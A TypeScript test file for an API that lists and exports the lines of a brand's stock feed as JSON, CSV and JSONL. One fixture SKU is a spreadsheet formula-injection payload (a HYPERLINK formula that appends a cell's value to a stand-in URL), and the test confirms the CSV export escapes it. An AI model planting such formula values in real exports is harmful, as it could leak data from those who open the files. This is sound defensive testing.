import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { assertRefused } from '../../../../test/support/assert-refused.ts';
import { createTestApps } from '../../../../test/support/test-apps.ts';
import { ok } from '../../tests/new-axes.ts';
import { applyBrandFeeds } from '../apply-feeds.ts';
import { readFeedLines } from '../feed-lines-store.ts';
import { dropFeedLines, getFeed } from '../feed-store.ts';
import { addProducts, type SentLine, sendFeed, unobserved } from './feeds.ts';

// Feeds are applied only when a test does so.
const apps = await createTestApps();
const { admin } = apps;
const { client, brandId } = await apps.newBrand();
await ok(client.post('/catalog/stock/locations', { external_code: 'L' }), 201);
await addProducts(apps, brandId, ['A']);

/** Returns the path of a new feed. */
async function newFeed(lines: readonly SentLine[]): Promise<string> {
  const { json } = await sendFeed(client, lines);
  return `/brands/${brandId}/feeds/${json.feed_id}`;
}

const apply = () => applyBrandFeeds(apps.context, unobserved, brandId, { sliceMs: 60_000 });

const dropAll = () =>
  apps.database.transaction((tx) => dropFeedLines(tx, new Date(apps.clock.now() + 86_400_000)));

const at = '2026-03-01T08:30:00.000Z';
const lines: readonly SentLine[] = [
  { sku: '=HYPERLINK("http://x/?"&A1,"y")', location_code: 'L', quantity: 1, updated_at: at },
  { sku: 'A', location_code: '@X', quantity: 2, reserved: 1, updated_at: '2026-03-01T09:30:00+01:00' },
  { sku: 'A', location_code: 'L', quantity: 3, updated_at: at },
  { sku: 'Ärmel 👕', location_code: 'L', quantity: 4, updated_at: at },
];
const unknownSku = 'No product or variant of the brand has this SKU.';
const rows = [
  { ...lines[0], line: 0, reserved: null, updated_at: at, result: 'unknown_sku', message: unknownSku },
  {
    ...lines[1],
    line: 1,
    updated_at: at,
    result: 'unknown_location',
    message: 'The brand has no stock location with this code.',
  },
  { ...lines[2], line: 2, reserved: null, updated_at: at, result: 'applied', message: null },
  { ...lines[3], line: 3, reserved: null, updated_at: at, result: 'unknown_sku', message: unknownSku },
];

const path = await newFeed(lines);

// [internal-100]
describe('the lines of a feed', () => {
  it('are listed in the order of the request, with what was sent and their results', async () => {
    const undecided = await ok(admin.get(`${path}/lines?result=undecided`));
    assert.deepEqual(
      undecided.data.map(({ line, result }: { line: number; result: null }) => [line, result]),
      rows.map(({ line }) => [line, null]),
    );
    assert.equal((await ok(admin.get(`${path}/lines?result=applied`))).meta.total, 0);
    await apply();
    const { data, meta, dropped_at } = await ok(admin.get(`${path}/lines`));
    assert.deepEqual(data, rows);
    assert.deepEqual(meta, { current_page: 1, per_page: 50, total: 4, last_page: 1 });
    assert.equal(dropped_at, null);
    const failed = await ok(admin.get(`${path}/lines?result=unknown_sku,unknown_location&per_page=2&page=2`));
    assert.deepEqual(failed.data, [rows[3]]);
    assert.equal(failed.meta.total, 3);
    assert.equal((await ok(admin.get(`${path}/lines?result=undecided`))).meta.total, 0);
  });

  it('have the time of receipt if they were sent without one', async () => {
    const other = await newFeed([{ sku: 'B', location_code: 'L', quantity: 1 }]);
    const { feed } = await getFeed(apps.database, brandId, other.split('/').at(-1) ?? '');
    const { data } = await ok(admin.get(`${other}/lines`));
    assert.equal(data[0].updated_at, feed.receivedAt.toISOString());
  });

  it('are found only under their brand, and by results that exist', async () => {
    const other = await apps.newBrand();
    const foreign = path.replace(`/brands/${brandId}/`, `/brands/${other.brandId}/`);
    for (const end of ['lines', 'lines.csv', 'lines.jsonl']) {
      assertRefused(await admin.get(`${foreign}/${end}`), 'not_found');
      assertRefused(await admin.get(`/brands/${brandId}/feeds/none/${end}`), 'not_found');
      assertRefused(await admin.get(`/brands/x/feeds/${path.split('/').at(-1)}/${end}`), 'not_found');
      const wrong = await admin.get(`${path}/${end}?result=applied,nope`);
      assertRefused(wrong, 'validation_failed', ['result']);
    }
  });
});

// [internal-101]
describe('an export of lines', () => {
  it('has a row of CSV for each line, which no spreadsheet runs', async () => {
    const { text, headers } = await admin.get(`${path}/lines.csv`);
    assert.equal(
      text,
      [
        'line,sku,location_code,quantity,reserved,updated_at,result,message',
        `0,"'=HYPERLINK(""http://x/?""&A1,""y"")",L,1,,${at},unknown_sku,${unknownSku}`,
        `1,A,'@X,2,1,${at},unknown_location,The brand has no stock location with this code.`,
        `2,A,L,3,,${at},applied,`,
        `3,Ärmel 👕,L,4,,${at},unknown_sku,${unknownSku}`,
        '',
      ].join('\n'),
    );
    assert.equal(headers['content-disposition'], `attachment; filename="feed-${path.split('/').at(-1)}.csv"`);
    const some = await admin.get(`${path}/lines.csv?result=stale,applied`);
    assert.deepEqual(
      some.text.split('\n').map((line) => line.split(',')[0]),
      ['line', '2', ''],
    );
    const none = await admin.get(`${path}/lines.csv?result=stale`);
    assert.equal(none.text, 'line,sku,location_code,quantity,reserved,updated_at,result,message\n');
  });

  it('has an object of JSON for each line', async () => {
    const { text } = await admin.get(`${path}/lines.jsonl`);
    const parsed = text
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line));
    assert.deepEqual(parsed, rows);
    const { text: some } = await admin.get(`${path}/lines.jsonl?result=unknown_sku`);
    assert.deepEqual(
      some
        .trim()
        .split('\n')
        .map((line) => JSON.parse(line)),
      [rows[0], rows[3]],
    );
    assert.equal((await admin.get(`${path}/lines.jsonl?result=stale`)).text, '');
  });

  it('has all lines in the order of the request, also if they are stored in another order', async () => {
    // Descending, so that every line is moved; more than some parts, and not a multiple of their size.
    const count = 11_234;
    const long = await newFeed(
      Array.from({ length: count }, (_, index) => ({
        sku: `S${String(count - index).padStart(6, '0')}`,
        location_code: 'L',
        quantity: index,
      })),
    );
    const { text } = await admin.get(`${long}/lines.jsonl`);
    const parsed = text
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line));
    assert.equal(parsed.length, count);
    for (const [index, { line, quantity }] of parsed.entries())
      assert.deepEqual([line, quantity], [index, index]);
    const page = await ok(admin.get(`${long}/lines?result=undecided&per_page=3&page=2000`));
    assert.deepEqual(
      page.data.map(({ line, quantity }: { line: number; quantity: number }) => [line, quantity]),
      [5_997, 5_998, 5_999].map((place) => [place, place]),
    );
    assert.deepEqual((await ok(admin.get(`${long}/lines?per_page=3&page=2000`))).data, page.data);
  });

  it('is refused once the lines were dropped, also in the middle', async () => {
    const long = await newFeed(
      Array.from({ length: 1_500 }, (_, index) => ({ sku: `S${index}`, location_code: 'L', quantity: 0 })),
    );
    await apply();
    const { feed } = await getFeed(apps.database, brandId, long.split('/').at(-1) ?? '');
    const parts = readFeedLines(apps.database, feed, { states: ['unknown_sku'], isLeft: false });
    assert.equal((await parts.next()).value?.length, 1_000);
    while ((await dropAll()) > 0);
    await assert.rejects(parts.next(), { code: 'conflict' });
    for (const end of ['csv', 'jsonl']) assertRefused(await admin.get(`${long}/lines.${end}`), 'conflict');
    const { data, meta, dropped_at } = await ok(admin.get(`${long}/lines`));
    assert.deepEqual([data, meta.total], [[], 1_500]);
    assert.match(dropped_at, /^\d{4}-/);
  });
});
